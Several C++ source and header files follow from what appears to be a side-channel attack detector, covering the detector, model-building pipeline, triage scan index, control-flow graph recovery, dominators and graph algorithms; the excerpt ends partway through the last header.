#include "core/model.h"
#include "ml/features.h"
#include "ml/knn.h"

namespace scag::core {

/// The coarse per-sequence summary the triage index runs on, derived from
/// the SequenceFeatures the lower bound precomputes anyway. All entries
/// are finite (an empty sequence maps to the zero vector). The
/// FeaturesView overload is the compiled/store-backed twin — identical
/// arithmetic, so the vectors are bit-identical for the same sequence
/// (the model store serializes them precomputed and test_store asserts
/// the round trip).
ml::FeatureVector triage_features(const SequenceFeatures& f,
                                  std::size_t length);
ml::FeatureVector triage_features(const FeaturesView& f, std::size_t length);

/// Which cascade stage decided a model's entry.
enum class CascadeStage : std::uint8_t {
  kExact,         // exact similarity was computed
  kKimBound,      // stage 1: the O(1) endpoints bound pruned it
  kEnvelopeBound, // stage 2: the full O(n+m) lower bound pruned it
  kEarlyAbandon,  // stage 3: the DP was abandoned mid-way
};

/// Per-model result of a cascade scan, in ENROLLMENT order (not visit
/// order). `score` is exact iff `stage == kExact`; otherwise it is an
/// upper bound on the exact similarity, itself strictly below the best
/// exact score of the scan.
struct CascadeScore {
  double score = 0.0;
  CascadeStage stage = CascadeStage::kExact;
};

/// Counters of one cascade scan (also mirrored into support::metrics as
/// "cascade.*" by the cascade_scan wrappers).
struct CascadeStats {
  std::uint64_t pairs = 0;            // models visited (= repository size)
  std::uint64_t exact = 0;            // full-DP exact scores
  std::uint64_t kim_pruned = 0;       // stage 1 prunes
  std::uint64_t envelope_pruned = 0;  // stage 2 prunes
  std::uint64_t early_abandoned = 0;  // stage 3 truncations
  std::uint64_t promoted = 0;         // conservative-fallback recomputes
  /// Triage quality: the first-visited model ended up the scan's winner
  /// (ties resolved like Detector::finalize, first enrolled wins).
  bool triage_first_is_best = false;
};

/// Triage index over a Detector's repository. Grown alongside enrollment
/// (add + refit are cheap: O(models x ~9 doubles)); immutable and safe to
/// share across scan threads afterwards. Deterministic: same models in
/// the same order -> the same scan_order for a given target, regardless
/// of thread count or scheduling.
class ScanIndex {
 public:
  /// k-NN vote size; clamped to the repository size by ml::Knn.
  explicit ScanIndex(int k = 3) : knn_(k) {}

  /// Appends one enrolled model's summary and refits the standardizer and
  /// classifier over all models seen so far.
  void add(const SequenceFeatures& features, std::size_t length,
           Family family);
  void add(const FeaturesView& features, std::size_t length, Family family);
  /// Primitive form: a precomputed triage vector (must match
  /// triage_features() output for the model — the store serializes these).
  void add(ml::FeatureVector triage, Family family);

  /// Bulk form of add() for the store-backed load path: same end state as
  /// N sequential adds (the intermediate refits a sequential build pays
  /// are dead work — only the final fit matters), but refits once.
  void load(std::vector<ml::FeatureVector> triage,
            std::vector<Family> families);

  std::size_t size() const { return families_.size(); }
  bool empty() const { return families_.empty(); }

  /// The attack family whose models the triage visits first for this
  /// target (majority k-NN vote, lowest family index on ties).
  Family predict_family(const SequenceFeatures& features,
                        std::size_t length) const;
  Family predict_family(const FeaturesView& features,
                        std::size_t length) const;

  /// Deterministic visit order over [0, size()): the predicted family's
  /// models first, then the rest; both groups by ascending standardized
  /// coarse distance, ties by enrollment index.
  std::vector<std::uint32_t> scan_order(const SequenceFeatures& features,
                                        std::size_t length) const;
  std::vector<std::uint32_t> scan_order(const FeaturesView& features,
                                        std::size_t length) const;

 private:
  void refit();
  Family predict_vec(const ml::FeatureVector& triage) const;
  std::vector<std::uint32_t> order_vec(const ml::FeatureVector& triage) const;

  std::vector<ml::FeatureVector> raw_;
  std::vector<Family> families_;
  ml::Standardizer standardizer_;
  std::vector<ml::FeatureVector> standardized_;
  ml::Knn knn_;
};

/// Cascade scan through the compiled kernel. `order` must be a
/// permutation of [0, repo.num_models()) — normally ScanIndex::scan_order,
/// but any order yields the same verdict/best/winner (only the prune
/// counts change). Honors config.deadline_ns like the other scan kernels
/// (throws ScanTimeoutError).
std::vector<CascadeScore> cascade_scan(
    const CompiledTarget& target, const CompiledRepository& repo,
    const std::vector<std::uint32_t>& order, ElementDistanceMemo& memo,
    const DtwConfig& config, CascadeStats* stats = nullptr,
    ElementDistanceMemo::Stats* memo_stats = nullptr);

/// String-kernel twin (the compile_target degradation path and the
/// equivalence-test oracle): bit-identical scores, stages, and stats for
/// the same inputs. `target_features` must come from
/// compute_sequence_features(target, config.distance); model features are
/// computed lazily, only for models that reach stage 2.
std::vector<CascadeScore> cascade_scan(
    const CstBbs& target, const std::vector<AttackModel>& repository,
    const std::vector<std::uint32_t>& order,
    const SequenceFeatures& target_features, const DtwConfig& config,
    CascadeStats* stats = nullptr);

}  // namespace scag::core
