// Attack detection and classification (paper Section III-B3).
//
// A repository holds the CST-BBS models of known attack PoCs. A target
// program is modeled with the same pipeline and compared against every
// PoC model; the best similarity score decides:
//   score >= threshold  -> classified into that PoC's attack family
//   otherwise           -> benign
#pragma once

#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "core/compiled.h"
#include "core/dtw.h"
#include "core/model.h"
#include "core/scan_index.h"

namespace scag::core {

struct ScanReport;     // core/explain.h
struct ExplainConfig;  // core/explain.h
class ModelStore;      // core/store.h

/// Score of the target against one repository model.
struct ModelScore {
  std::string model_name;
  Family family = Family::kBenign;
  double score = 0.0;
  /// Set by the pruning scan paths (BatchConfig::prune and the triage
  /// cascade, core/scan_index.h): the comparison was cut short and `score`
  /// is an upper bound on the exact similarity, itself below the pruning
  /// cutoff. Exhaustive scans always compute exactly and leave this false.
  bool pruned = false;
};

struct Detection {
  /// All per-model scores, sorted descending (ties keep enrollment order).
  std::vector<ModelScore> scores;
  /// Family of the best-scoring model if above threshold, else kBenign.
  Family verdict = Family::kBenign;
  double best_score = 0.0;

  bool is_attack() const { return verdict != Family::kBenign; }
};

class Detector {
 public:
  /// threshold: minimum similarity to call the target an attack. The paper
  /// selects 45% (the middle of the robust 30%-60% band of Fig. 5).
  explicit Detector(ModelConfig model_config = {}, DtwConfig dtw_config = {},
                    double threshold = 0.45)
      : builder_(std::move(model_config)),
        dtw_(dtw_config),
        threshold_(threshold),
        compiled_(dtw_config.distance) {}

  double threshold() const { return threshold_; }
  void set_threshold(double t) { threshold_ = t; }
  const ModelBuilder& builder() const { return builder_; }
  const DtwConfig& dtw_config() const { return dtw_; }

  /// Whether scans run through the compiled fast path (core/compiled.h).
  /// On by default; the string path is kept as an escape hatch
  /// (`scagctl scan --no-compiled`) and as the equivalence-test oracle.
  /// Both produce bit-identical Detections.
  bool use_compiled() const { return use_compiled_; }
  void set_use_compiled(bool on) { use_compiled_ = on; }

  /// The compiled form of the repository, grown alongside it at
  /// enrollment. BatchDetector compiles its targets against this.
  const CompiledRepository& compiled_repository() const { return compiled_; }

  /// Whether scans run through the triage index + lower-bound cascade
  /// (core/scan_index.h). Off by default here (the serial Detector is the
  /// exhaustive-oracle baseline of every equivalence test); `scagctl scan`
  /// turns it on, with `--no-index` as the escape hatch. On or off, the
  /// Detection's verdict, best_score, and winning model are bit-identical;
  /// only sub-best entries may carry flagged upper bounds when on.
  bool use_index() const { return use_index_; }
  void set_use_index(bool on) { use_index_ = on; }

  /// Whether scan DPs run the anti-diagonal wavefront SIMD kernel
  /// (core/dtw_wavefront.h) instead of the scalar row loop. On by default;
  /// `scagctl scan --no-simd` and the SCAG_SIMD=0 environment variable are
  /// the escape hatches. The kernels are bit-identical (same per-cell
  /// arithmetic, no reassociation), so this — like use_compiled() — never
  /// changes a Detection; it composes with both kernels and the cascade.
  /// Explain-mode alignment recovery always stays scalar.
  bool use_simd() const { return use_simd_; }
  void set_use_simd(bool on) { use_simd_ = on; }

  /// The DtwConfig the scan paths actually execute with: dtw_config()
  /// plus the kernel selection implied by use_simd(). BatchDetector and
  /// the serial scan() both read this, so the flag covers every path.
  DtwConfig scan_dtw_config() const {
    DtwConfig config = dtw_;
    config.kernel =
        use_simd_ ? DtwKernel::kWavefront : DtwKernel::kScalar;
    return config;
  }

  /// The triage index, maintained at enrollment regardless of use_index()
  /// so it can be toggled on (or consulted by explain reports) at any
  /// time. BatchDetector's indexed mode reads this.
  const ScanIndex& scan_index() const { return index_; }

  /// Adds a PoC to the repository (modeling it with the pipeline).
  void enroll(const isa::Program& poc, Family family);

  /// Adds a pre-built model. Throws std::logic_error on a store-backed
  /// detector — the mapping is frozen; re-pack the store instead.
  void enroll(AttackModel model);

  /// Backs this (empty) detector with an opened scag-store-v1 image
  /// (core/store.h): scans run straight out of the mapping — no parse, no
  /// compile, no copies — and are bit-identical to enrolling the same
  /// models from text. The detector keeps the shared_ptr alive for as long
  /// as it scans. Throws std::logic_error if models were already enrolled,
  /// StoreError if the store's scan alphabet differs from dtw_config().
  void attach_store(std::shared_ptr<const ModelStore> store);

  /// True when attach_store() backs the repository (enrollment is frozen).
  bool store_backed() const { return store_ != nullptr; }
  const std::shared_ptr<const ModelStore>& store() const { return store_; }

  /// Repository directory. These never materialize text models: they read
  /// the enrolled vector or the store mapping directly, so every scan path
  /// stays zero-copy.
  std::size_t repository_size() const;
  std::string_view model_name(std::size_t j) const;
  Family model_family(std::size_t j) const;

  /// The text-form models. On a store-backed detector the first call
  /// materializes them from the mapping (lazily, thread-safe) — scans
  /// never need this; the string-kernel fallback and explain() do.
  const std::vector<AttackModel>& repository() const;

  /// Full pipeline on a target program, then similarity comparison.
  Detection scan(const isa::Program& target) const;

  /// Comparison only, for a target already modeled.
  Detection scan(const CstBbs& target_sequence) const;

  /// Decision-level evidence for a scan (core/explain.h): the full DTW
  /// alignment per model, each pair's D_IS/D_CSP cost decomposition,
  /// pruning attribution, and a verdict rationale. Runs on the string
  /// kernels (O(n*m) memory; a diagnostic path, not a scan path); every
  /// score in the report equals the scan() score bit-exactly. Defined in
  /// explain.cpp.
  ScanReport explain(const CstBbs& target_sequence, std::string target_name,
                     const ExplainConfig& config) const;
  ScanReport explain(const isa::Program& target,
                     const ExplainConfig& config) const;

  /// The deterministic reduction shared by the serial and batch scan
  /// paths: takes per-model scores in enrollment order, sorts them
  /// descending with a stable tie-break (enrollment order), and derives
  /// verdict/best_score. Keeping this in one place is what lets
  /// BatchDetector guarantee bit-identical Detections.
  static Detection finalize(std::vector<ModelScore> scores, double threshold);

 private:
  ModelBuilder builder_;
  DtwConfig dtw_;
  double threshold_;
  bool use_compiled_ = true;
  bool use_index_ = false;
  bool use_simd_ = true;
  /// Enrolled text models; on a store-backed detector, the lazily
  /// materialized cache behind repository() (hence mutable + once_flag;
  /// the flag lives on the heap because once_flag is immovable and the
  /// Detector itself must stay movable).
  mutable std::vector<AttackModel> repository_;
  std::shared_ptr<const ModelStore> store_;
  std::shared_ptr<std::once_flag> materialize_once_;
  CompiledRepository compiled_;
  ScanIndex index_;
};

}  // namespace scag::core
