// CST-BBS attack behavior model construction (paper Definition 5 and
// Section III-A): the end-to-end modeling pipeline
//
//   run PoC -> profile -> CFG -> per-BB stats -> relevant BBs ->
//   attack-relevant graph (Algorithm 1) -> flatten by timestamp ->
//   CST per block -> CST-BBS
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "cfg/cfg.h"
#include "core/attack_graph.h"
#include "core/cst.h"
#include "core/family.h"
#include "core/relevant.h"
#include "cpu/interpreter.h"
#include "isa/program.h"

namespace scag::core {

/// One element of a CST-BBS: a basic block with its normalized instruction
/// sequence and its measured cache state transition.
struct CstBbsElement {
  cfg::BlockId block = 0;
  std::uint64_t first_cycle = 0;           // flattening key
  std::vector<std::string> norm_instrs;    // Section III-B1 normalization
  std::vector<std::string> sem_tokens;     // calibrated semantic alphabet
  Cst cst;
};

/// Definition 5: a sequence of cache-state-transition-enhanced blocks,
/// ordered by execution timestamp.
using CstBbs = std::vector<CstBbsElement>;

/// A named behavior model in the repository.
struct AttackModel {
  std::string name;
  Family family = Family::kBenign;
  CstBbs sequence;
};

struct ModelConfig {
  cpu::ExecOptions exec{};
  RelevantConfig relevant{};
  AttackGraphConfig graph{};
  CstConfig cst{};
};

/// Intermediate artifacts of the pipeline, exposed for evaluation (Table IV
/// counts #BB/#IAB) and for the examples.
struct ModelArtifacts {
  std::size_t num_blocks = 0;             // #BB
  std::vector<cfg::BlockId> potential;    // step-1 survivors
  std::vector<cfg::BlockId> relevant;     // step-2 survivors (#IAB source)
  std::size_t graph_nodes = 0;            // attack-relevant graph size
  trace::ExitReason exit = trace::ExitReason::kHalted;
  std::uint64_t retired = 0;
  std::uint64_t cycles = 0;
};

class ModelBuilder {
 public:
  explicit ModelBuilder(ModelConfig config = {}) : config_(std::move(config)) {}

  const ModelConfig& config() const { return config_; }

  /// Runs the full pipeline on a program and returns its CST-BBS model.
  AttackModel build(const isa::Program& program,
                    Family family = Family::kBenign,
                    ModelArtifacts* artifacts = nullptr) const;

  /// Pipeline stage: from an already-collected profile and CFG (lets the
  /// evaluation reuse one execution for several analyses).
  AttackModel build_from_profile(const cfg::Cfg& cfg,
                                 const trace::ExecutionProfile& profile,
                                 Family family = Family::kBenign,
                                 ModelArtifacts* artifacts = nullptr) const;

 private:
  ModelConfig config_;
};

}  // namespace scag::core
