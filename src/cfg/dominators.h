// Dominator analysis and natural-loop discovery over a Cfg.
//
// Downstream users of a CFG library expect these; inside this project they
// back structural queries in tests and tooling (e.g. "is this branch a
// loop latch?") and give scagctl's model dump loop context.
//
// The dominator computation is the classic Cooper-Harvey-Kennedy iterative
// algorithm over a reverse-postorder numbering.
#pragma once

#include <vector>

#include "cfg/cfg.h"

namespace scag::cfg {

class DominatorTree {
 public:
  /// Computes dominators for everything reachable from cfg.entry_block().
  explicit DominatorTree(const Cfg& cfg);

  /// Immediate dominator of `b`; the entry block is its own idom. Returns
  /// kNoBlock for unreachable blocks.
  BlockId idom(BlockId b) const { return idom_.at(b); }

  /// True if `a` dominates `b` (reflexive). False if either is unreachable.
  bool dominates(BlockId a, BlockId b) const;

  /// True if the block is reachable from the entry.
  bool reachable(BlockId b) const { return idom_.at(b) != kNoBlock; }

 private:
  std::vector<BlockId> idom_;
};

/// A natural loop: a back edge latch->header where header dominates latch,
/// plus every block that can reach the latch without passing the header.
struct NaturalLoop {
  BlockId header = 0;
  BlockId latch = 0;
  std::vector<BlockId> body;  // includes header and latch, sorted

  bool contains(BlockId b) const;
};

/// Finds all natural loops of the CFG (one per back edge).
std::vector<NaturalLoop> find_natural_loops(const Cfg& cfg,
                                            const DominatorTree& dom);

}  // namespace scag::cfg
