// Control-flow graph recovery from a Program (the Angr substitute).
//
// Definition 1 of the paper: nodes are basic blocks (maximal straight-line
// instruction sequences), edges are possible control transfers.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "isa/program.h"

namespace scag::cfg {

using BlockId = std::uint32_t;
inline constexpr BlockId kNoBlock = static_cast<BlockId>(-1);

/// A basic block: instructions [first, first+count) of the program.
struct BasicBlock {
  BlockId id = 0;
  std::size_t first = 0;  // index of first instruction in the Program
  std::size_t count = 0;  // number of instructions

  std::size_t last() const { return first + count - 1; }
};

class Cfg {
 public:
  /// Builds the CFG of a program. Call edges go both to the callee entry
  /// and to the fall-through (the return point); ret has no successors.
  /// The Cfg keeps a reference to `program`, which must therefore outlive
  /// it (and must not be moved while the Cfg is alive).
  static Cfg build(const isa::Program& program);

  const isa::Program& program() const { return *program_; }

  std::size_t num_blocks() const { return blocks_.size(); }
  const BasicBlock& block(BlockId id) const { return blocks_.at(id); }
  const std::vector<BasicBlock>& blocks() const { return blocks_; }

  const std::vector<BlockId>& successors(BlockId id) const {
    return succ_.at(id);
  }
  const std::vector<BlockId>& predecessors(BlockId id) const {
    return pred_.at(id);
  }

  /// Block containing the instruction at index `instr_idx`.
  BlockId block_of_instr(std::size_t instr_idx) const {
    return instr_to_block_.at(instr_idx);
  }

  /// Block whose first instruction is at `addr`; kNoBlock if none.
  BlockId block_at_address(std::uint64_t addr) const;

  /// Block containing the program entry point.
  BlockId entry_block() const { return entry_; }

  /// Instructions of a block, copied out (used for CST-BBS construction).
  std::vector<isa::Instruction> instructions_of(BlockId id) const;

  /// Addresses of all instructions in a block.
  std::vector<std::uint64_t> addresses_of(BlockId id) const;

  /// Graphviz dot output for debugging/examples.
  std::string to_dot() const;

 private:
  const isa::Program* program_ = nullptr;
  std::vector<BasicBlock> blocks_;
  std::vector<std::vector<BlockId>> succ_;
  std::vector<std::vector<BlockId>> pred_;
  std::vector<BlockId> instr_to_block_;
  BlockId entry_ = 0;
};

}  // namespace scag::cfg
