#include "cfg/graph_algos.h"

#include <algorithm>
#include <numeric>
#include <stdexcept>

namespace scag::cfg {

void Digraph::add_edge(std::uint32_t from, std::uint32_t to) {
  if (from >= adj.size() || to >= adj.size())
    throw std::out_of_range("Digraph::add_edge: node out of range");
  auto& s = adj[from];
  if (std::find(s.begin(), s.end(), to) == s.end()) s.push_back(to);
}

bool Digraph::has_edge(std::uint32_t from, std::uint32_t to) const {
  const auto& s = adj.at(from);
  return std::find(s.begin(), s.end(), to) != s.end();
}

namespace {

// Iterative DFS that classifies back edges (target on the current stack).
void dfs_remove_back_edges(
    Digraph& g, std::uint32_t root, std::vector<std::uint8_t>& color,
    std::vector<std::pair<std::uint32_t, std::uint32_t>>& removed) {
  // color: 0 = white, 1 = on stack (gray), 2 = done (black)
  struct Frame {
    std::uint32_t node;
    std::size_t next_child = 0;
  };
  if (color[root] != 0) return;
  std::vector<Frame> stack;
  stack.push_back({root, 0});
  color[root] = 1;
  while (!stack.empty()) {
    const std::uint32_t node = stack.back().node;
    auto& children = g.adj[node];
    if (stack.back().next_child >= children.size()) {
      color[node] = 2;
      stack.pop_back();
      continue;
    }
    const std::uint32_t c = children[stack.back().next_child];
    if (color[c] == 1) {
      // Back edge: remove it; next_child now indexes the following edge.
      removed.emplace_back(node, c);
      children.erase(children.begin() +
                     static_cast<std::ptrdiff_t>(stack.back().next_child));
      continue;
    }
    ++stack.back().next_child;
    if (color[c] == 0) {
      color[c] = 1;
      stack.push_back({c, 0});
    }
  }
}

}  // namespace

std::vector<std::pair<std::uint32_t, std::uint32_t>> remove_back_edges(
    Digraph& g, std::uint32_t root) {
  std::vector<std::pair<std::uint32_t, std::uint32_t>> removed;
  std::vector<std::uint8_t> color(g.size(), 0);
  if (g.size() == 0) return removed;
  if (root >= g.size())
    throw std::out_of_range("remove_back_edges: root out of range");
  dfs_remove_back_edges(g, root, color, removed);
  for (std::uint32_t v = 0; v < g.size(); ++v)
    dfs_remove_back_edges(g, v, color, removed);
  return removed;
}

bool has_cycle(const Digraph& g) {
  // Kahn's algorithm: cycle iff not all nodes can be topologically removed.
  std::vector<std::size_t> indeg(g.size(), 0);
  for (const auto& succs : g.adj)
    for (std::uint32_t t : succs) ++indeg[t];
  std::vector<std::uint32_t> queue;
  for (std::uint32_t v = 0; v < g.size(); ++v)
    if (indeg[v] == 0) queue.push_back(v);
  std::size_t seen = 0;
  while (!queue.empty()) {
    const std::uint32_t v = queue.back();
    queue.pop_back();
    ++seen;
    for (std::uint32_t t : g.adj[v])
      if (--indeg[t] == 0) queue.push_back(t);
  }
  return seen != g.size();
}

namespace {

void dfs_paths(const Digraph& g, std::uint32_t cur, std::uint32_t to,
               const std::vector<bool>& blocked, const PathLimits& limits,
               std::vector<std::uint32_t>& path,
               std::vector<std::vector<std::uint32_t>>& out) {
  if (out.size() >= limits.max_paths) return;
  if (cur == to && path.size() > 1) {
    out.push_back(path);
    return;
  }
  if (path.size() >= limits.max_length) return;
  for (std::uint32_t next : g.adj[cur]) {
    if (out.size() >= limits.max_paths) return;
    // Interior nodes may not be blocked; the final endpoint is exempt.
    if (next != to && (next >= blocked.size() ? false : blocked[next]))
      continue;
    // Simple paths only (DAG input makes revisits impossible, but stay
    // defensive for general graphs).
    if (std::find(path.begin(), path.end(), next) != path.end()) continue;
    path.push_back(next);
    dfs_paths(g, next, to, blocked, limits, path, out);
    path.pop_back();
  }
}

}  // namespace

std::vector<std::vector<std::uint32_t>> paths_avoiding(
    const Digraph& g, std::uint32_t from, std::uint32_t to,
    const std::vector<bool>& blocked, const PathLimits& limits) {
  std::vector<std::vector<std::uint32_t>> out;
  if (from >= g.size() || to >= g.size()) return out;
  if (from == to) return out;
  std::vector<std::uint32_t> path{from};
  dfs_paths(g, from, to, blocked, limits, path, out);
  return out;
}

namespace {

class UnionFind {
 public:
  explicit UnionFind(std::size_t n) : parent_(n) {
    std::iota(parent_.begin(), parent_.end(), 0);
  }
  std::size_t find(std::size_t x) {
    while (parent_[x] != x) {
      parent_[x] = parent_[parent_[x]];
      x = parent_[x];
    }
    return x;
  }
  bool unite(std::size_t a, std::size_t b) {
    a = find(a);
    b = find(b);
    if (a == b) return false;
    parent_[a] = b;
    return true;
  }

 private:
  std::vector<std::size_t> parent_;
};

}  // namespace

std::vector<std::size_t> max_spanning_forest(
    std::size_t num_nodes, const std::vector<WeightedEdge>& edges) {
  std::vector<std::size_t> order(edges.size());
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(),
                   [&edges](std::size_t a, std::size_t b) {
                     return edges[a].weight > edges[b].weight;
                   });
  UnionFind uf(num_nodes);
  std::vector<std::size_t> chosen;
  for (std::size_t idx : order) {
    const WeightedEdge& e = edges[idx];
    if (uf.unite(e.u, e.v)) chosen.push_back(idx);
  }
  return chosen;
}

}  // namespace scag::cfg
