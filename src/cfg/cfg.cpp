#include "cfg/cfg.h"

#include <algorithm>
#include <set>

#include "support/strings.h"
#include "support/trace.h"

namespace scag::cfg {

using isa::Instruction;
using isa::Opcode;
using isa::Program;

Cfg Cfg::build(const Program& program) {
  support::TraceScope span("cfg.build");
  program.validate();
  const std::size_t n = program.size();

  // Leaders: entry, branch targets, and instructions following a
  // block-ending instruction.
  std::set<std::size_t> leaders;
  leaders.insert(program.index_of(program.entry()));
  leaders.insert(0);
  for (std::size_t i = 0; i < n; ++i) {
    const Instruction& insn = program.at(i);
    if (isa::ends_basic_block(insn.op)) {
      if (i + 1 < n) leaders.insert(i + 1);
      if (isa::is_control_flow(insn.op) && insn.op != Opcode::kRet) {
        const std::size_t t = program.index_of(insn.target);
        if (t != Program::npos) leaders.insert(t);
      }
    }
  }

  Cfg cfg;
  cfg.program_ = &program;
  cfg.instr_to_block_.assign(n, kNoBlock);

  // Carve blocks between consecutive leaders.
  std::vector<std::size_t> sorted(leaders.begin(), leaders.end());
  for (std::size_t b = 0; b < sorted.size(); ++b) {
    BasicBlock block;
    block.id = static_cast<BlockId>(b);
    block.first = sorted[b];
    const std::size_t end = b + 1 < sorted.size() ? sorted[b + 1] : n;
    block.count = end - block.first;
    for (std::size_t i = block.first; i < end; ++i)
      cfg.instr_to_block_[i] = block.id;
    cfg.blocks_.push_back(block);
  }

  cfg.succ_.assign(cfg.blocks_.size(), {});
  cfg.pred_.assign(cfg.blocks_.size(), {});
  auto add_edge = [&cfg](BlockId from, BlockId to) {
    auto& s = cfg.succ_[from];
    if (std::find(s.begin(), s.end(), to) == s.end()) {
      s.push_back(to);
      cfg.pred_[to].push_back(from);
    }
  };

  for (const BasicBlock& block : cfg.blocks_) {
    const Instruction& lastinsn = program.at(block.last());
    const std::size_t next = block.last() + 1;
    switch (lastinsn.op) {
      case Opcode::kJmp:
        add_edge(block.id, cfg.instr_to_block_[program.index_of(lastinsn.target)]);
        break;
      case Opcode::kCall:
        add_edge(block.id, cfg.instr_to_block_[program.index_of(lastinsn.target)]);
        if (next < n) add_edge(block.id, cfg.instr_to_block_[next]);
        break;
      case Opcode::kRet:
      case Opcode::kHlt:
        break;
      default:
        if (isa::is_cond_branch(lastinsn.op)) {
          add_edge(block.id,
                   cfg.instr_to_block_[program.index_of(lastinsn.target)]);
          if (next < n) add_edge(block.id, cfg.instr_to_block_[next]);
        } else if (next < n) {
          // Straight-line fall-through into the next leader.
          add_edge(block.id, cfg.instr_to_block_[next]);
        }
        break;
    }
  }

  cfg.entry_ = cfg.instr_to_block_[program.index_of(program.entry())];
  return cfg;
}

BlockId Cfg::block_at_address(std::uint64_t addr) const {
  const std::size_t idx = program_->index_of(addr);
  if (idx == Program::npos) return kNoBlock;
  const BlockId b = instr_to_block_[idx];
  return blocks_[b].first == idx ? b : kNoBlock;
}

std::vector<Instruction> Cfg::instructions_of(BlockId id) const {
  const BasicBlock& b = blocks_.at(id);
  std::vector<Instruction> out;
  out.reserve(b.count);
  for (std::size_t i = b.first; i < b.first + b.count; ++i)
    out.push_back(program_->at(i));
  return out;
}

std::vector<std::uint64_t> Cfg::addresses_of(BlockId id) const {
  const BasicBlock& b = blocks_.at(id);
  std::vector<std::uint64_t> out;
  out.reserve(b.count);
  for (std::size_t i = b.first; i < b.first + b.count; ++i)
    out.push_back(program_->address_of(i));
  return out;
}

std::string Cfg::to_dot() const {
  std::string out = "digraph cfg {\n";
  for (const BasicBlock& b : blocks_) {
    out += strfmt("  b%u [label=\"BB%u\\n0x%llx (%zu)\"];\n", b.id, b.id,
                  static_cast<unsigned long long>(program_->address_of(b.first)),
                  b.count);
  }
  for (const BasicBlock& b : blocks_) {
    for (BlockId s : succ_[b.id])
      out += strfmt("  b%u -> b%u;\n", b.id, s);
  }
  out += "}\n";
  return out;
}

}  // namespace scag::cfg
