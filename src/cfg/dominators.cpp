#include "cfg/dominators.h"

#include <algorithm>

namespace scag::cfg {

namespace {

/// Reverse postorder of the blocks reachable from `entry`.
std::vector<BlockId> reverse_postorder(const Cfg& cfg, BlockId entry) {
  std::vector<std::uint8_t> state(cfg.num_blocks(), 0);  // 0 new, 1 open, 2 done
  std::vector<BlockId> postorder;
  struct Frame {
    BlockId node;
    std::size_t next = 0;
  };
  std::vector<Frame> stack{{entry, 0}};
  state[entry] = 1;
  while (!stack.empty()) {
    Frame& f = stack.back();
    const auto& succs = cfg.successors(f.node);
    if (f.next < succs.size()) {
      const BlockId child = succs[f.next++];
      if (state[child] == 0) {
        state[child] = 1;
        stack.push_back({child, 0});
      }
    } else {
      state[f.node] = 2;
      postorder.push_back(f.node);
      stack.pop_back();
    }
  }
  std::reverse(postorder.begin(), postorder.end());
  return postorder;
}

}  // namespace

DominatorTree::DominatorTree(const Cfg& cfg) {
  const BlockId entry = cfg.entry_block();
  idom_.assign(cfg.num_blocks(), kNoBlock);

  const std::vector<BlockId> rpo = reverse_postorder(cfg, entry);
  std::vector<std::size_t> rpo_index(cfg.num_blocks(),
                                     static_cast<std::size_t>(-1));
  for (std::size_t i = 0; i < rpo.size(); ++i) rpo_index[rpo[i]] = i;

  idom_[entry] = entry;

  auto intersect = [&](BlockId a, BlockId b) {
    while (a != b) {
      while (rpo_index[a] > rpo_index[b]) a = idom_[a];
      while (rpo_index[b] > rpo_index[a]) b = idom_[b];
    }
    return a;
  };

  bool changed = true;
  while (changed) {
    changed = false;
    for (BlockId b : rpo) {
      if (b == entry) continue;
      BlockId new_idom = kNoBlock;
      for (BlockId p : cfg.predecessors(b)) {
        if (idom_[p] == kNoBlock) continue;  // predecessor not processed yet
        new_idom = new_idom == kNoBlock ? p : intersect(p, new_idom);
      }
      if (new_idom != kNoBlock && idom_[b] != new_idom) {
        idom_[b] = new_idom;
        changed = true;
      }
    }
  }
}

bool DominatorTree::dominates(BlockId a, BlockId b) const {
  if (idom_.at(a) == kNoBlock || idom_.at(b) == kNoBlock) return false;
  BlockId cur = b;
  for (;;) {
    if (cur == a) return true;
    const BlockId up = idom_[cur];
    if (up == cur) return false;  // reached the entry
    cur = up;
  }
}

bool NaturalLoop::contains(BlockId b) const {
  return std::binary_search(body.begin(), body.end(), b);
}

std::vector<NaturalLoop> find_natural_loops(const Cfg& cfg,
                                            const DominatorTree& dom) {
  std::vector<NaturalLoop> loops;
  for (BlockId latch = 0; latch < cfg.num_blocks(); ++latch) {
    if (!dom.reachable(latch)) continue;
    for (BlockId header : cfg.successors(latch)) {
      if (!dom.dominates(header, latch)) continue;
      // Back edge latch -> header: flood backwards from the latch without
      // crossing the header.
      NaturalLoop loop;
      loop.header = header;
      loop.latch = latch;
      std::vector<bool> in_loop(cfg.num_blocks(), false);
      in_loop[header] = true;
      std::vector<BlockId> work;
      if (!in_loop[latch]) {
        in_loop[latch] = true;
        work.push_back(latch);
      }
      while (!work.empty()) {
        const BlockId b = work.back();
        work.pop_back();
        for (BlockId p : cfg.predecessors(b)) {
          if (!dom.reachable(p) || in_loop[p]) continue;
          in_loop[p] = true;
          work.push_back(p);
        }
      }
      for (BlockId b = 0; b < cfg.num_blocks(); ++b)
        if (in_loop[b]) loop.body.push_back(b);
      loops.push_back(std::move(loop));
    }
  }
  return loops;
}

}  // namespace scag::cfg
