// Graph algorithms for Algorithm 1 of the paper:
//   - back-edge removal (step 1: make the CFG loop-free)
//   - bounded enumeration of simple paths that avoid a blocked set (step 3)
//   - maximum spanning tree over a weighted graph (step 4)
// They operate on a lightweight adjacency-list digraph so they can be unit
// tested independently of the Cfg class.
#pragma once

#include <cstdint>
#include <vector>

namespace scag::cfg {

/// Adjacency-list digraph over nodes 0..n-1.
struct Digraph {
  std::vector<std::vector<std::uint32_t>> adj;

  explicit Digraph(std::size_t n = 0) : adj(n) {}
  std::size_t size() const { return adj.size(); }
  void add_edge(std::uint32_t from, std::uint32_t to);
  bool has_edge(std::uint32_t from, std::uint32_t to) const;
};

/// Removes back edges (edges into a node currently on the DFS stack),
/// starting DFS from `root` and then from every unreached node, so the
/// result is a DAG covering all nodes. Returns the removed edges.
std::vector<std::pair<std::uint32_t, std::uint32_t>> remove_back_edges(
    Digraph& g, std::uint32_t root);

/// True if the digraph contains a directed cycle.
bool has_cycle(const Digraph& g);

/// Limits for path enumeration so pathological CFGs stay bounded. The
/// defaults comfortably cover the PoC-scale graphs of the paper.
struct PathLimits {
  std::size_t max_paths = 256;
  std::size_t max_length = 128;  // nodes per path
};

/// Enumerates simple paths from `from` to `to` in a DAG whose interior
/// nodes avoid `blocked` (blocked[v] true = may not appear strictly inside
/// the path). Endpoints are exempt from blocking. Paths are returned as
/// node sequences including both endpoints.
